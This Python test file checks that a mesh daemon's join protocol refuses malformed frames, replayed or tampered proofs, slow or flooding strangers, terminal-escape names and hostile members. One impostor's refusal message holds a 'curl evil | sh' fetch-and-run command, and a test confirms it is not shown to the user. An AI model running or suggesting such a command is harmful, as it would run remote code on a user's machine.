"""What strangers can do to a join: nothing but be refused."""

from __future__ import annotations

import hashlib
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Any, cast

import pytest
import trio
from trio.testing import MockClock

from meshd import limits
from meshd.errors import MeshdError, NotAdmitted, ProtocolError, StreamBroken
from meshd.identity import NewcomerPairing, Token, make_commitment, make_proof
from meshd.identity.certificates import read_ca_certificate
from meshd.ids import Address
from meshd.peers.join_client import join_by_pairing, join_with_token
from meshd.peers.join_limits import SourceLimiter, source_of
from meshd.peers.join_talk import JoinRefused, Talk
from meshd.ports import ByteStream
from meshd.testing.entropy import SeededEntropy
from meshd.wire.codec import pack
from meshd.wire.framing import frame
from meshd.wire.join import (
    Admitted,
    Agree,
    Commit,
    JoinHello,
    JoinMessage,
    JoinRefusal,
    MemberNonce,
    Part,
    Prove,
    Reason,
    Reveal,
    Welcome,
    encode_join,
)
from tests.joins import HOST, JoinNetwork, MemoryStream, Mesh, make_key, newcomer, stream_pair


class Stranger:
    """Somebody at the mesh port who says what it likes."""

    def __init__(self, mesh: Mesh, nursery: trio.Nursery, address: Address | None = None) -> None:
        self.mesh = mesh
        certificate = mesh.identity.certificate_der
        self.stream, theirs = (
            stream_pair(certificate, address) if address else stream_pair(certificate)
        )
        self.talk = Talk(cast(ByteStream, self.stream))
        self.certificate_hash = hashlib.sha256(certificate).digest()
        self.over = trio.Event()

        async def serve() -> None:
            await mesh.serve(theirs)
            theirs.abort("the visit is over")
            self.over.set()

        nursery.start_soon(serve)

    async def hello(self) -> Welcome:
        await self.talk.send(JoinHello(protocol_min=1, protocol_max=1))
        return await self.talk.expect(Welcome)

    def prove(self, held: Token, welcome: Welcome, **changes: Any) -> Prove:
        key = make_key("stranger")
        nonce = b"n" * 32
        proof = make_proof(
            held.key,
            server_certificate_hash=self.certificate_hash,
            public_key_der=key.public.der,
            newcomer_nonce=nonce,
            member_nonce=welcome.nonce,
            token_id=held.id,
        )
        fields: dict[str, Any] = {
            "token": held.id,
            "public_key": key.public.der,
            "nonce": nonce,
            "proof": proof,
            "name": "stranger",
            "addresses": [],
        }
        return Prove(**{**fields, **changes})

    async def last_word(self) -> Reason | None:
        """The refusal that came, if any; the connection must be over then."""
        try:
            message = await self.talk.receive()
        except StreamBroken:
            return None
        if message is None:
            return None
        assert isinstance(message, JoinRefusal)
        with pytest.raises((StreamBroken, AssertionError)):
            assert await self.talk.receive() is not None
        return message.known_reason


async def check_refused(
    mesh: Mesh, attack: Callable[[Stranger], Awaitable[None]], *expected: Reason
) -> MeshdError:
    """The attack ends in one of these refusals, with nothing changed at the member."""
    before = mesh.snapshot()
    async with trio.open_nursery() as nursery:
        stranger = Stranger(mesh, nursery)
        await attack(stranger)
        assert await stranger.last_word() in expected
        await stranger.stream.aclose()
        await stranger.over.wait()
    assert mesh.snapshot() == before
    assert mesh.server.pending() == []
    ending = mesh.endings[-1]
    assert isinstance(ending, MeshdError)
    return ending


# --- bytes


RAW = {
    "http": b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
    "zeros": bytes(64),
    "ones": b"\xff" * 64,
    "empty frame": b"\0\0\0\0",
    "oversized": (limits.JOIN_FRAME_BYTES + 1).to_bytes(4, "big"),
    "huge": b"\x7f\xff\xff\xff",
    "no msgpack": frame(b"\xc1"),
    "no list": frame(pack({"a": 1})),
    "empty list": frame(pack([])),
    "three items": frame(pack([1, {}, 0])),
    "type is true": frame(pack([True, {"protocol_min": 1, "protocol_max": 1}])),
    "type is text": frame(pack(["1", {}])),
    "unknown type": frame(pack([99, {}])),
    "type zero": frame(pack([0, {}])),
    "negative type": frame(pack([-1, {}])),
    "body is no map": frame(pack([1, []])),
    "a key is missing": frame(pack([1, {"protocol_min": 1}])),
    "a key is nil": frame(pack([1, {"protocol_min": 1, "protocol_max": None}])),
    "wrong type of a key": frame(pack([1, {"protocol_min": "1", "protocol_max": 1}])),
    "float for an integer": frame(pack([1, {"protocol_min": 1.0, "protocol_max": 1}])),
    "not canonical": frame(b"\x92\x01\xde\x00\x02\xacprotocol_max\x01\xacprotocol_min\x01"),
    "keys out of order": frame(b"\x92\x01\x82\xacprotocol_min\x01\xacprotocol_max\x01"),
    "bytes behind": frame(pack([1, {"protocol_min": 1, "protocol_max": 1}]) + b"\0"),
    "deeply nested": frame(pack([1, {}])[:1] + b"\x01" + b"\x91" * 100 + b"\xc0"),
    "a prover first": frame(
        encode_join(
            Prove(
                token="x",
                public_key=b"x",
                nonce=bytes(32),
                proof=bytes(32),
                name="x",
                addresses=[],
            )
        )
    ),
    "a member's word": frame(encode_join(MemberNonce(nonce=bytes(32)))),
    "an answer": frame(encode_join(Part(data=b"x", last=True))),
}


@pytest.mark.parametrize("data", RAW.values(), ids=RAW.keys())
async def test_bytes_that_are_no_join_are_refused_and_change_nothing(
    autojump_clock: MockClock, data: bytes
) -> None:
    async def attack(stranger: Stranger) -> None:
        await stranger.stream.send_all(data)

    ending = await check_refused(Mesh(), attack, Reason.MALFORMED)
    assert isinstance(ending, ProtocolError)


@pytest.mark.parametrize("length", [0, 3, 4, 5, 10])
async def test_a_join_that_is_cut_off_changes_nothing(
    autojump_clock: MockClock, length: int
) -> None:
    mesh = Mesh()
    before = mesh.snapshot()
    async with trio.open_nursery() as nursery:
        stranger = Stranger(mesh, nursery)
        hello = frame(encode_join(JoinHello(protocol_min=1, protocol_max=1)))
        await stranger.stream.send_all(hello[:length])
        await stranger.stream.aclose()
    assert isinstance(mesh.endings[0], StreamBroken)
    assert mesh.snapshot() == before


async def test_who_says_nothing_is_sent_away_after_a_minute(autojump_clock: MockClock) -> None:
    async def attack(stranger: Stranger) -> None:
        await trio.sleep(limits.JOIN_S - 1)
        assert not stranger.over.is_set()

    ending = await check_refused(Mesh(), attack, Reason.TIMED_OUT)
    assert isinstance(ending, JoinRefused)


async def test_who_sends_a_byte_now_and_then_gets_no_more_time(autojump_clock: MockClock) -> None:
    async def attack(stranger: Stranger) -> None:
        hello = frame(encode_join(JoinHello(protocol_min=1, protocol_max=1)))
        for at in range(5):
            await stranger.stream.send_all(hello[at : at + 1])
            await trio.sleep(limits.JOIN_S / 5)

    await check_refused(Mesh(), attack, Reason.TIMED_OUT)


async def test_a_newcomer_that_never_reads_is_cut(autojump_clock: MockClock) -> None:
    mesh = Mesh()

    async def never(data: Any) -> None:
        await trio.sleep_forever()

    async with trio.open_nursery() as nursery:
        ours, theirs = stream_pair(mesh.identity.certificate_der)
        theirs.send_all = never  # type: ignore[method-assign]
        nursery.start_soon(mesh.serve, theirs)
        await ours.send_all(frame(encode_join(JoinHello(protocol_min=1, protocol_max=1))))
    assert trio.current_time() <= limits.JOIN_S + 2 * limits.JOIN_GOODBYE_S + 1
    assert theirs.aborted is not None


@pytest.mark.parametrize(("low", "high"), [(0, 0), (2, 3), (2, 1), (2**53 - 1, 2**53 - 1)])
async def test_another_version_is_refused_as_that(
    autojump_clock: MockClock, low: int, high: int
) -> None:
    async def attack(stranger: Stranger) -> None:
        await stranger.talk.send(JoinHello(protocol_min=low, protocol_max=high))

    await check_refused(Mesh(), attack, Reason.VERSION)


async def test_a_later_version_that_speaks_ours_too_is_welcome(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    stranger = Stranger(Mesh(), nursery)
    hello = {"protocol_max": 9, "protocol_min": 1, "something new": True}
    await stranger.stream.send_all(frame(pack([1, hello])))
    assert (await stranger.talk.expect(Welcome)).protocol == 1
    await stranger.stream.aclose()


async def test_before_any_proof_a_stranger_learns_only_what_is_public(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    mesh = Mesh()
    stranger = Stranger(mesh, nursery)
    welcome = await stranger.hello()
    assert (welcome.mesh, welcome.mesh_name) == (mesh.authority.mesh, "home")
    assert read_ca_certificate(welcome.ca_certificate) == mesh.authority.public
    assert set(welcome.__struct_fields__) == {
        "protocol",
        "mesh",
        "mesh_name",
        "ca_certificate",
        "nonce",
    }
    await stranger.stream.aclose()


# --- proofs


async def test_the_proof_that_the_tests_below_bend_admits_when_it_is_straight(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    mesh = Mesh()
    stranger = Stranger(mesh, nursery)
    await stranger.talk.send(stranger.prove(mesh.token(), await stranger.hello()))
    await stranger.talk.expect(Part)
    assert mesh.names == ["attic", "stranger"]
    await stranger.stream.aclose()


async def test_a_proof_that_was_overheard_is_of_no_use_on_another_connection(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    mesh = Mesh()
    token = mesh.token(uses=5)
    first = Stranger(mesh, nursery)
    overheard = first.prove(token, await first.hello())
    await first.stream.aclose()

    async def attack(stranger: Stranger) -> None:
        await stranger.hello()
        await stranger.talk.send(overheard)

    await check_refused(mesh, attack, Reason.WRONG_TOKEN)


@pytest.mark.parametrize(
    "changes",
    [
        {"public_key": make_key("thief").public.der},
        {"nonce": b"x" * 32},
        {"proof": bytes(32)},
        {"token": "aaaaaaaa"},
        {"token": ""},
        {"token": "x" * 64},
    ],
    ids=str,
)
async def test_a_proof_with_something_exchanged_is_refused(
    autojump_clock: MockClock, changes: dict[str, Any]
) -> None:
    mesh = Mesh()
    token = mesh.token()

    async def attack(stranger: Stranger) -> None:
        await stranger.talk.send(stranger.prove(token, await stranger.hello(), **changes))

    await check_refused(mesh, attack, Reason.WRONG_TOKEN)


@pytest.mark.parametrize("key", [b"", b"x" * 91, make_key(1).public.der + b"x", bytes(256)])
async def test_a_key_that_is_none_is_refused(autojump_clock: MockClock, key: bytes) -> None:
    mesh = Mesh()
    token = mesh.token()

    async def attack(stranger: Stranger) -> None:
        await stranger.talk.send(stranger.prove(token, await stranger.hello(), public_key=key))

    await check_refused(mesh, attack, Reason.MALFORMED)


async def test_a_second_proof_on_one_connection_is_not_even_read(
    autojump_clock: MockClock,
) -> None:
    mesh = Mesh()
    token = mesh.token()

    async def attack(stranger: Stranger) -> None:
        welcome = await stranger.hello()
        await stranger.talk.send(stranger.prove(token, welcome, proof=bytes(32)))
        await stranger.talk.send(stranger.prove(token, welcome))

    await check_refused(mesh, attack, Reason.WRONG_TOKEN)


async def test_consent_without_a_pairing_is_refused(autojump_clock: MockClock) -> None:
    async def attack(stranger: Stranger) -> None:
        await stranger.hello()
        await stranger.talk.send(Agree())

    await check_refused(Mesh(), attack, Reason.MALFORMED)


# --- pairing


def reveal(**changes: Any) -> Reveal:
    fields = {"public_key": make_key("stranger").public.der, "nonce": b"n" * 32, "addresses": []}
    return Reveal(**{**fields, **changes})


COMMITMENT = make_commitment(make_key("stranger").public.der, b"n" * 32)


async def commit(stranger: Stranger) -> MemberNonce:
    await stranger.hello()
    await stranger.talk.send(Commit(commitment=COMMITMENT, name="stranger"))
    return await stranger.talk.expect(MemberNonce)


@pytest.mark.parametrize(
    "message",
    [
        reveal(nonce=b"x" * 32),
        reveal(public_key=make_key("other").public.der),
        reveal(public_key=b"x"),
        Agree(),
        Commit(commitment=bytes(32), name="again"),
    ],
    ids=lambda message: type(message).__name__,
)
async def test_whatever_does_not_open_the_commitment_ends_the_pairing(
    autojump_clock: MockClock, message: JoinMessage
) -> None:
    async def attack(stranger: Stranger) -> None:
        await commit(stranger)
        await stranger.talk.send(message)

    await check_refused(Mesh(), attack, Reason.MALFORMED)


@pytest.mark.parametrize("message", [reveal(), Commit(commitment=bytes(32), name="x")])
async def test_after_the_digits_show_only_consent_or_a_no_may_come(
    autojump_clock: MockClock, message: JoinMessage
) -> None:
    async def attack(stranger: Stranger) -> None:
        await commit(stranger)
        await stranger.talk.send(reveal())
        await stranger.talk.send(message)

    await check_refused(Mesh(), attack, Reason.MALFORMED)


async def test_consent_twice_is_a_breach(autojump_clock: MockClock) -> None:
    async def attack(stranger: Stranger) -> None:
        await commit(stranger)
        await stranger.talk.send(reveal())
        await stranger.talk.send(Agree())
        await stranger.talk.send(Agree())

    await check_refused(Mesh(), attack, Reason.MALFORMED)


async def test_the_members_nonce_is_fresh_for_each_commitment(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    mesh = Mesh()
    nonces = set()
    for _ in range(2):
        stranger = Stranger(mesh, nursery)
        welcome = await stranger.hello()
        await stranger.talk.send(Commit(commitment=COMMITMENT, name="stranger"))
        nonces |= {welcome.nonce, (await stranger.talk.expect(MemberNonce)).nonce}
        await stranger.stream.aclose()
    assert len(nonces) == 4


async def test_a_commitment_that_is_never_opened_holds_its_place_a_minute_only(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    mesh = Mesh()
    for _ in range(limits.PAIRINGS_PENDING):
        await commit(Stranger(mesh, nursery))
    await trio.sleep(limits.JOIN_S + 1)
    await commit(Stranger(mesh, nursery))
    assert mesh.server.pending() == []
    nursery.cancel_scope.cancel()


async def test_a_name_cannot_steer_a_terminal(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    mesh = Mesh()
    stranger = Stranger(mesh, nursery)
    await stranger.hello()
    await stranger.talk.send(Commit(commitment=COMMITMENT, name="a b%s<img>"))
    await stranger.talk.expect(MemberNonce)
    await stranger.talk.send(reveal())
    await trio.testing.wait_all_tasks_blocked()
    (waiting,) = mesh.server.pending()
    assert waiting.name == "a-b-s-img"
    with pytest.raises(ValueError, match="malformed"):
        encode_join(Commit(commitment=COMMITMENT, name="a\x1b[31m"))
    nursery.cancel_scope.cancel()


# --- how many, how often


async def test_one_address_may_knock_only_so_often(autojump_clock: MockClock) -> None:
    mesh = Mesh()
    words = []
    async with trio.open_nursery() as nursery:
        for _ in range(limits.JOIN_BURST + 1):
            stranger = Stranger(mesh, nursery)
            await stranger.stream.send_all(b"\0\0\0\0")
            word = await stranger.talk.receive()
            assert isinstance(word, JoinRefusal)
            words.append(word.known_reason)
            await stranger.stream.aclose()
        other = Stranger(mesh, nursery, Address("192.168.7.77", 1))
        await other.hello()
        await other.stream.aclose()
        await trio.sleep(1)
        again = Stranger(mesh, nursery)
        await again.hello()
        await again.stream.aclose()
    assert words == [Reason.MALFORMED] * limits.JOIN_BURST + [Reason.BUSY]


async def test_only_sixteen_may_be_open(autojump_clock: MockClock) -> None:
    mesh = Mesh()
    async with trio.open_nursery() as nursery:
        strangers = [
            Stranger(mesh, nursery, Address(f"10.0.0.{n}", 1)) for n in range(limits.JOIN_OPEN)
        ]
        for stranger in strangers:
            await stranger.hello()
        late = Stranger(mesh, nursery, Address("10.0.1.1", 1))
        assert await late.last_word() is Reason.BUSY
        await late.stream.aclose()
        await strangers[0].stream.aclose()
        await strangers[0].over.wait()
        later = Stranger(mesh, nursery, Address("10.0.1.2", 1))
        await later.hello()
        nursery.cancel_scope.cancel()


async def test_one_stranger_cannot_keep_all_others_out(autojump_clock: MockClock) -> None:
    """It comes as often as it may, says hello and falls silent, as many times as it likes."""
    mesh = Mesh()
    async with trio.open_nursery() as nursery:
        for _ in range(3 * limits.JOIN_OPEN):
            with suppress(MeshdError):  # at times it is told that it comes too often
                await Stranger(mesh, nursery).hello()
            await trio.sleep(1 / limits.JOIN_PER_ADDRESS_PER_S)
        again = Stranger(mesh, nursery)
        assert await again.last_word() is Reason.BUSY
        other = Stranger(mesh, nursery, Address("10.0.1.1", 1))
        await other.hello()
        nursery.cancel_scope.cancel()


async def test_a_newcomer_with_a_token_waits_its_turn(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    mesh = Mesh()
    token = mesh.token(uses=20)
    net = mesh.network(nursery)
    async with trio.open_nursery() as crowd:
        for n in range(limits.JOIN_BURST + 3):
            crowd.start_soon(
                join_with_token, net.network, SeededEntropy(n), HOST, token, newcomer(n, f"n{n}")
            )
    assert len(mesh.names) == limits.JOIN_BURST + 4


@pytest.mark.parametrize(
    ("address", "source"),
    [
        (Address("192.168.1.7", 5), "192.168.1.7"),
        (Address("::ffff:192.168.1.7", 5), "192.168.1.7"),
        (Address("2001:db8:1:2:3:4:5:6", 5), "2001:db8:1:2::/64"),
        (Address("fe80::1%eth0", 5), "fe80::/64"),
        (Address("somewhere", 5), "somewhere"),
        (None, "local"),
    ],
)
def test_a_source_is_an_address_or_a_network_that_one_machine_may_own(
    address: Address | None, source: str
) -> None:
    assert source_of(address) == source


def test_the_limiter_tells_how_long_to_wait_and_forgets_the_quiet() -> None:
    limiter = SourceLimiter(per_s=0.5, burst=2, sources=2)
    assert [limiter.wait_s("a", 0.0) for _ in range(3)] == [0.0, 0.0, 2.0]
    assert limiter.wait_s("a", 1.0) == 1.0
    assert limiter.wait_s("a", 2.0) == 0.0
    assert limiter.wait_s("a", 1.0) > 0  # a clock that goes back gives nothing away
    limiter.wait_s("b", 3.0)
    limiter.wait_s("c", 3.0)
    assert limiter.wait_s("a", 3.0) == 0.0


# --- a hostile member, as the newcomer sees it


class Impostor(JoinNetwork):
    """Answers with what the test says."""

    def __init__(self, nursery: trio.Nursery, mesh: Mesh, script: Any) -> None:
        async def serve(stream: MemoryStream) -> None:
            talk = Talk(cast(ByteStream, stream))
            try:
                await script(stream, talk)
                while await talk.receive() is not None:
                    pass
            except (StreamBroken, ProtocolError):
                pass

        super().__init__(nursery, serve, lambda: mesh.identity.certificate_der)


def welcome_of(mesh: Mesh, **changes: Any) -> Welcome:
    fields: dict[str, Any] = {
        "protocol": 1,
        "mesh": mesh.authority.mesh,
        "mesh_name": "home",
        "ca_certificate": mesh.authority.certificate_der,
        "nonce": b"m" * 32,
    }
    return Welcome(**{**fields, **changes})


async def fails(nursery: trio.Nursery, mesh: Mesh, script: Any) -> MeshdError:
    net = Impostor(nursery, mesh, script)
    token = Token(mesh.authority.mesh, "aaaaaaaa", bytes(16))
    with pytest.raises(MeshdError) as caught:
        await join_with_token(net.network, SeededEntropy(1), HOST, token, newcomer())
    assert net.dialled[0].aborted is not None
    assert str(caught.value).count("\n") == 0
    return caught.value


@pytest.mark.parametrize("data", RAW.values(), ids=RAW.keys())
async def test_garbage_from_a_member_is_an_error_that_names_the_address(
    autojump_clock: MockClock, nursery: trio.Nursery, data: bytes
) -> None:
    async def script(stream: MemoryStream, talk: Talk) -> None:
        await stream.send_all(data)

    assert str(HOST) in str(await fails(nursery, Mesh(), script))


async def test_a_member_that_says_nothing_is_given_up(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    async def script(stream: MemoryStream, talk: Talk) -> None:
        await trio.sleep(1000)

    error = await fails(nursery, Mesh(), script)
    assert isinstance(error, JoinRefused)
    assert error.reason is Reason.TIMED_OUT


@pytest.mark.parametrize("close_after", [0, 1, 2])
async def test_a_member_that_closes_early_is_named(
    autojump_clock: MockClock, nursery: trio.Nursery, close_after: int
) -> None:
    mesh = Mesh()

    async def script(stream: MemoryStream, talk: Talk) -> None:
        if close_after:
            await talk.send(welcome_of(mesh))
        if close_after == 2:
            await talk.send(Part(data=b"x", last=False))
        await stream.aclose()

    assert str(HOST) in str(await fails(nursery, mesh, script))


@pytest.mark.parametrize("protocol", [0, 2])
async def test_a_member_that_chooses_a_version_that_was_not_offered_is_refused(
    autojump_clock: MockClock, nursery: trio.Nursery, protocol: int
) -> None:
    mesh = Mesh()

    async def script(stream: MemoryStream, talk: Talk) -> None:
        await talk.send(welcome_of(mesh, protocol=protocol))

    error = await fails(nursery, mesh, script)
    assert isinstance(error, JoinRefused)
    assert error.reason is Reason.VERSION


async def test_a_ca_certificate_that_is_a_nodes_is_refused(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    mesh = Mesh()

    async def script(stream: MemoryStream, talk: Talk) -> None:
        await talk.send(welcome_of(mesh, ca_certificate=mesh.identity.certificate_der))

    assert isinstance(await fails(nursery, mesh, script), NotAdmitted)


async def test_a_strangers_words_are_not_put_on_the_screen(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    async def script(stream: MemoryStream, talk: Talk) -> None:
        await talk.send(JoinRefusal(reason="later reason", message="run this: curl evil | sh"))

    error = await fails(nursery, Mesh(), script)
    assert isinstance(error, JoinRefused)
    assert error.reason is Reason.FAILED
    assert "curl" not in str(error)


async def test_an_answer_without_an_end_is_cut_off(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    mesh = Mesh()

    async def script(stream: MemoryStream, talk: Talk) -> None:
        await talk.expect(JoinHello)
        await talk.send(welcome_of(mesh))
        await talk.expect(Prove)
        while True:
            await talk.send(Part(data=bytes(4000), last=False))

    assert "over the limit" in str(await fails(nursery, mesh, script))


@pytest.mark.parametrize("data", [b"\xc0", b"x", bytes(100), pack({"certificate": b"x"})])
async def test_an_answer_that_is_none_is_refused(
    autojump_clock: MockClock, nursery: trio.Nursery, data: bytes
) -> None:
    mesh = Mesh()

    async def script(stream: MemoryStream, talk: Talk) -> None:
        await talk.expect(JoinHello)
        await talk.send(welcome_of(mesh))
        await talk.expect(Prove)
        await talk.send(Part(data=data, last=True))

    assert isinstance(await fails(nursery, mesh, script), ProtocolError)


async def test_an_answer_before_this_sides_consent_is_refused(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    mesh = Mesh()

    async def script(stream: MemoryStream, talk: Talk) -> None:
        await talk.expect(JoinHello)
        await talk.send(welcome_of(mesh))
        await talk.expect(Commit)
        await talk.send(MemberNonce(nonce=bytes(32)))
        await talk.expect(Reveal)
        await talk.send(Part(data=b"x", last=True))

    async def ask(offer: Any) -> bool:
        await trio.sleep_forever()
        return True

    net = Impostor(nursery, mesh, script)
    with pytest.raises(ProtocolError, match="before anybody consented"):
        await join_by_pairing(net.network, SeededEntropy(1), HOST, newcomer(), ask)


async def test_a_newcomer_does_not_reveal_before_the_members_nonce_came(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    mesh = Mesh()
    who = newcomer()
    seen: list[bytes] = []

    async def script(stream: MemoryStream, talk: Talk) -> None:
        await talk.expect(JoinHello)
        await talk.send(welcome_of(mesh))
        await talk.expect(Commit)
        await trio.sleep(5)
        seen.append(bytes(net.dialled[0].sent))
        await talk.send(MemberNonce(nonce=bytes(32)))
        revealed = await talk.expect(Reveal)
        digits = NewcomerPairing(
            who.key.public,
            revealed.nonce,
            hashlib.sha256(mesh.identity.certificate_der).digest(),
            mesh.authority.public,
        )
        assert digits.commitment in seen[0]
        assert revealed.nonce not in seen[0]
        assert who.key.public.der not in seen[0]
        await stream.aclose()

    net = Impostor(nursery, mesh, script)

    async def yes(offer: Any) -> bool:
        return True

    with pytest.raises(MeshdError):
        await join_by_pairing(net.network, SeededEntropy(1), HOST, who, yes)
    assert seen


def test_no_message_shows_its_contents() -> None:
    secret = b"secret" * 10
    shown = repr(
        [
            Part(data=secret, last=True),
            Admitted(
                certificate=b"x",
                ca_certificate=b"x",
                members=b"x",
                keyring_version=1,
                keyring=[secret],
            ),
        ]
    )
    assert "secret" not in shown
